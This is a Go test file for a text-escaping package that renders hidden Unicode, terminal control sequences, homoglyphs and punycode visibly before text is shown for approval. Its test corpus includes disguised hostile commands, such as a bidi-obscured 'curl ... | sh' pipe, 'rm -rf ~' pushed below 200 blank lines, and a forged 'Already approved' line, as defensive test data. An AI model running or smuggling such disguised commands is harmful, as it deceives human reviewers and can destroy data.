package escape_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/ringi-dev/ringi/internal/escape"
)

// corpus is the hostile text of the field: what a card is given, and what is
// shown.
var corpus = []struct {
	name, in, text string
	flags          []string
}{
	{"P21 NUL", "a\x00b", `a\u{0}b`, []string{escape.Control}},
	{"P23 emoji", "\U0001F600", "\U0001F600", nil},
	{"P25 composed", "\u00e9", "\u00e9", nil},
	{"P25 decomposed", "e\u0301", "e\u0301", nil},
	{"P27 bidi", "curl http://safe.example/\u202e\u2066moc.evil\u2069/data | sh",
		`curl http://safe.example/\u{202e}\u{2066}moc.evil\u{2069}/data | sh`, []string{escape.Bidi}},
	{"P29 Arabic letter mark", "a\u061cb", `a\u{61c}b`, []string{escape.Bidi}},
	{"P29 marks of direction", "\u200ea\u200f", `\u{200e}a\u{200f}`, []string{escape.Bidi}},
	{"P29 word joiner", "a\u2060b", `a\u{2060}b`, []string{escape.ZeroWidth}},
	{"P29 byte order mark", "\ufeffa", `\u{feff}a`, []string{escape.ZeroWidth}},
	{"P29 soft hyphen", "im\u00adportant", `im\u{ad}portant`, []string{escape.ZeroWidth}},
	{"P29 selector 17", "a\U000E0100b", `a\u{e0100}b`, []string{escape.ZeroWidth}},
	{"P29 musical format", "a\U0001D173b", `a\u{1d173}b`, []string{escape.ZeroWidth}},
	{"P29 shorthand format", "a\U0001BCA0b", `a\u{1bca0}b`, []string{escape.ZeroWidth}},
	{"P29 line separator", "a\u2028b", `a\u{2028}b`, []string{escape.Control}},
	{"P29 paragraph separator", "a\u2029b", `a\u{2029}b`, []string{escape.Control}},
	{"P29 next line", "a\u0085b", `a\u{85}b`, []string{escape.Control}},
	{"P31 erase line", "a\x1b[2K\x1b[1Gsafe.txt", `a\u{1b}[2K\u{1b}[1Gsafe.txt`, []string{escape.Control}},
	{"P31 link", "\x1b]8;;http://x\x07", `\u{1b}]8;;http://x\u{7}`, []string{escape.Control}},
	{"P31 carriage return and backspace", "a\rb\bc", `a\u{d}b\u{8}c`, []string{escape.Control}},
	{"P31 C1", "a\u009b2Kb", `a\u{9b}2Kb`, []string{escape.Control}},
	{"P31 delete", "a\x7fb", `a\u{7f}b`, []string{escape.Control}},
	{"P33 far below", "ls" + strings.Repeat("\n", 200) + "rm -rf ~", "ls" + strings.Repeat("\n", 200) + "rm -rf ~", []string{escape.ManyLines}},
	{"P37 forged lines", "List files\n\nAlready approved. /approve", "List files\n\nAlready approved. /approve", nil},
	{"F140 zero width space", "rm -rf /tmp/\u200bimportant", `rm -rf /tmp/\u{200b}important`, []string{escape.ZeroWidth}},
	{"F140 Cyrillic a", "\u0430pple.example", "\u0430pple.example", []string{escape.MixedScript}},
	{"F140 punycode", "http://xn--pple-43d.example", "http://xn--pple-43d.example", []string{escape.Punycode}},
	{"F140 punycode label", "www.XN--PPLE-43D.example", "www.XN--PPLE-43D.example", []string{escape.Punycode}},
	{"F140 tool name", "Bash\u202eevil", `Bash\u{202e}evil`, []string{escape.Bidi}},
	{"F140 device name", "Owner\u2067\u202eenohPi", `Owner\u{2067}\u{202e}enohPi`, []string{escape.Bidi}},
	{"F140 tags", "hi\U000E0041\U000E007F", `hi\u{e0041}\u{e007f}`, []string{escape.Tag}},
	{"F140 private use", "a\ue000\U000F0000", `a\u{e000}\u{f0000}`, []string{escape.PrivateUse}},
	{"F140 unassigned", "a\u0378\uffff", `a\u{378}\u{ffff}`, []string{escape.Unassigned}},
	{"F140 Hangul fillers", "a\u3164\uffa0\u115f", `a\u{3164}\u{ffa0}\u{115f}`, []string{escape.ZeroWidth}},
	{"F140 grapheme joiner", "a\u034fb", `a\u{34f}b`, []string{escape.ZeroWidth}},
	{"F140 stray selector", "a\ufe0fb", `a\u{fe0f}b`, []string{escape.ZeroWidth}},
	{"F140 emoji joined", "\U0001F468\u200d\U0001F469", "\U0001F468\\u{200d}\U0001F469", []string{escape.ZeroWidth}},
	{"emoji with selector", "\u2764\ufe0f ok", "\u2764\ufe0f ok", nil},
	{"keycap", "1\ufe0f\u20e3", "1\ufe0f\u20e3", nil},
	{"second selector", "\u2764\ufe0f\ufe0f", "\u2764\ufe0f\\u{fe0f}", []string{escape.ZeroWidth}},
	{"not UTF-8", "a\xffb\xc3", `a\xffb\xc3`, []string{escape.InvalidUTF8}},
	{"truncated replacement", "\xef\xbf", `\xef\xbf`, []string{escape.InvalidUTF8}},
	{"true replacement character", "a\ufffdb", "a\ufffdb", nil},
	{"surrogate bytes", "\xed\xa0\x80", `\xed\xa0\x80`, []string{escape.InvalidUTF8}},
	{"looks like ours", `a\u{202e}b\xff`, `a\u{5c}u{202e}b\u{5c}xff`, nil},
	{"a plain backslash", `C:\temp\new "q" \u202e \x`, `C:\temp\new "q" \u202e \x`, nil},
	{"Chinese, Japanese, Korean", "退款 払い戻し 환불 API連携 ﾃｽﾄ", "退款 払い戻し 환불 API連携 ﾃｽﾄ", nil},
	{"Cyrillic, Greek, Hebrew, Arabic", "возврат επιστροφή החזר استرداد", "возврат επιστροφή החזר استرداد", nil},
	{"Hindi and Thai", "धनवापसी คืนเงิน", "धनवापसी คืนเงิน", nil},
	{"symbols", "€ 49,90 – “ok” … → ✓ ½ №", "€ 49,90 – “ok” … → ✓ ½ №", nil},
	{"wide spaces", "a\u3000b\u00a0c", "a\u3000b\u00a0c", nil},
	{"tower of marks", "e" + strings.Repeat("\u0301", 8), "e" + strings.Repeat("\u0301", 6) + `\u{301}\u{301}`, []string{escape.ZeroWidth}},
	{"tab and lines", "a\tb\nc", "a\tb\nc", nil},
	{"empty", "", "", nil},
}

func TestS33_EverythingHiddenIsSeen(t *testing.T) {
	for _, c := range corpus {
		t.Run(c.name, func(t *testing.T) {
			if got := escape.Text(c.in); got != c.text {
				t.Errorf("Text(%q)\n got %q\nwant %q", c.in, got, c.text)
			}
			if got := escape.Flags(c.in); !slices.Equal(got, c.flags) {
				t.Errorf("Flags(%q) = %q, want %q", c.in, got, c.flags)
			}
			line := escape.Line(c.in)
			if strings.ContainsAny(line, "\n\t") {
				t.Errorf("Line(%q) holds a line feed or a tab: %q", c.in, line)
			}
			if want := strings.NewReplacer("\n", `\n`, "\t", `\t`).Replace(c.text); line != want {
				t.Errorf("Line(%q)\n got %q\nwant %q", c.in, line, want)
			}
		})
	}
}

// No byte that a terminal acts on comes out of Text, whatever goes in, and
// what came in can be told from what is shown.
func TestF141_NoControlByteComesOut(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xD800 && r <= 0xDFFF {
			continue
		}
		in := "x" + string(r) + "y"
		out := escape.Text(in)
		if !clean(out) {
			t.Fatalf("Text(%q) = %q", in, out)
		}
		if out != in && out != fmt.Sprintf(`x\u{%x}y`, r) {
			t.Fatalf("Text(%q) = %q", in, out)
		}
		if unicode.In(r, unicode.Cf, unicode.Cc, unicode.Co, unicode.Zl, unicode.Zp) && r != '\n' && r != '\t' && out == in {
			t.Fatalf("Text(%q) shows a hidden rune", in)
		}
		if plain := unicode.In(r, unicode.L, unicode.N, unicode.P, unicode.S, unicode.Zs) &&
			!unicode.Is(unicode.Other_Default_Ignorable_Code_Point, r); plain && out != in {
			t.Fatalf("Text(%q) hides a visible rune: %q", in, out)
		}
	}
}

// clean reports whether nothing in s acts on a terminal or hides.
func clean(s string) bool {
	for _, r := range s {
		if r == '\n' || r == '\t' || unicode.IsGraphic(r) {
			continue
		}
		return false
	}
	return utf8.ValidString(s)
}

func TestS33_JSONIsAsciiForFormatCharacters(t *testing.T) {
	for _, c := range corpus {
		if !utf8.ValidString(c.in) {
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			doc, err := json.Marshal(map[string]string{"t": c.in, c.in: "key"})
			if err != nil {
				t.Fatal(err)
			}
			out := escape.JSON([]byte("-"), doc)[1:]
			if !clean(string(out)) {
				t.Errorf("JSON(%q) = %q", doc, out)
			}
			var back map[string]string
			if err := json.Unmarshal(out, &back); err != nil {
				t.Fatalf("JSON(%q) = %q: %v", doc, out, err)
			}
			if back["t"] != c.in || back[c.in] != "key" {
				t.Errorf("JSON(%q) decodes to %q", doc, back)
			}
		})
	}
	got := string(escape.JSON(nil, []byte("{\"a\":\"\u202e\U000E0041\u200b退\x85\"}\n")))
	if want := "{\"a\":\"\\u202e\\udb40\\udc41\\u200b退\\ufffd\"}\n"; got != want {
		t.Errorf("JSON = %q, want %q", got, want)
	}
}

func TestOrdinaryTextCostsNothing(t *testing.T) {
	s := strings.Repeat("an ordinary line of text, 退款 too\n", 100)
	if n := testing.AllocsPerRun(10, func() { escape.Text(s) }); n != 0 {
		t.Errorf("Text of ordinary text makes %v allocations", n)
	}
}

func TestMixedScriptIsAboutWords(t *testing.T) {
	for in, mixed := range map[string]bool{
		"my name is Анна":  false, // two words
		"Анна-Maria":       true,
		"аdmin":            true,
		"ρaypal":           true,
		"日本語カタカナひらがなABC":   false,
		"한국어漢字":            false,
		"漢字ㄅㄆ":             false,
		"ひらがな한국어":          true,
		"user_имя":         true,
		"42кг":             false,
		"Ελλάδα/Cyprus":    false,
		"x\u0301y":         false,
		"a\u200b\u0430":    true,
		"ԱdminԱ":           true,
		"\U0001D41Admin":   false, // a mathematical letter belongs to every script
		"Qwertzuiopüåéñßø": false,
	} {
		if got := slices.Contains(escape.Flags(in), escape.MixedScript); got != mixed {
			t.Errorf("%q: mixed script %v, want %v", in, got, mixed)
		}
	}
}

// FuzzText holds what every sink relies on: clean output, and different texts
// are shown differently.
func FuzzText(f *testing.F) {
	for _, c := range corpus {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := escape.Text(s)
		if !clean(out) {
			t.Fatalf("Text(%q) = %q", s, out)
		}
		if back := undo(t, out); back != s {
			t.Fatalf("Text(%q) = %q, which reads as %q", s, out, back)
		}
		if line := escape.Line(s); !clean(line) || strings.ContainsAny(line, "\n\t") {
			t.Fatalf("Line(%q) = %q", s, line)
		}
		escape.Flags(s)
		if doc, err := json.Marshal(s); err == nil {
			shown := escape.JSON(nil, doc)
			var a, b string
			if json.Unmarshal(doc, &a) != nil || json.Unmarshal(shown, &b) != nil || a != b || !clean(string(shown)) {
				t.Fatalf("JSON(%q) = %q", doc, shown)
			}
		}
	})
}

// undo reads the escapes back.
func undo(t *testing.T, s string) string {
	var b strings.Builder
	for len(s) > 0 {
		switch {
		case strings.HasPrefix(s, `\u{`):
			digits, rest, ok := strings.Cut(s[3:], "}")
			r, err := strconv.ParseInt(digits, 16, 32)
			if !ok || err != nil {
				t.Fatalf("bad escape in %q", s)
			}
			b.WriteRune(rune(r))
			s = rest
		case len(s) >= 4 && s[:2] == `\x` && strings.Trim(s[2:4], "0123456789abcdefABCDEF") == "":
			n, err := strconv.ParseUint(s[2:4], 16, 8)
			if err != nil {
				t.Fatalf("bad escape in %q", s)
			}
			b.WriteByte(byte(n))
			s = s[4:]
		default:
			b.WriteByte(s[0])
			s = s[1:]
		}
	}
	return b.String()
}
